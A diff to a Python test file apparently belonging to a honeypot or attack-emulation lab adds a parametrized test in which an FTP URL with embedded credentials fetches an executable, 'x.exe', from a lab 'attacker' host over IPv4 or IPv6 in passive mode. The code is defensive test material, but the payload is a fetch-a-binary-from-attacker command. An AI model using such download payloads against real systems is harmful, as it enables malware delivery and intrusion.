@@ -78,6 +78,18 @@ def test_ftp_url_over_ipv6_fetches_the_sample(lab: Lab, sample: tuple[Path, byte
     _downloaded(run_attack(lab, payload, {"ftpDownload": {}}), data)
 
 
+@pytest.mark.parametrize("family", ["ip4", "ip6"])
+def test_ftp_falls_back_to_passive_mode(
+    lab: Lab, sample: tuple[Path, bytes], family: str
+) -> None:
+    root, data = sample
+    ip = getattr(lab.attacker, family)
+    port = start(lab, lab.attacker, "ftp", str(root), ip, USER, PASSWORD, "passive-only")
+    host = f"[{ip}]" if ":" in ip else ip
+    payload = f"ftp://{USER}:{PASSWORD}@{host}:{port}/x.exe".encode()
+    _downloaded(run_attack(lab, payload, {"ftpDownload": {}}), data)
+
+
 def test_tftp_windows_command_fetches_the_sample(lab: Lab, sample: tuple[Path, bytes]) -> None:
     root, data = sample
     start(lab, lab.attacker, "tftp", str(root), lab.attacker.ip4)
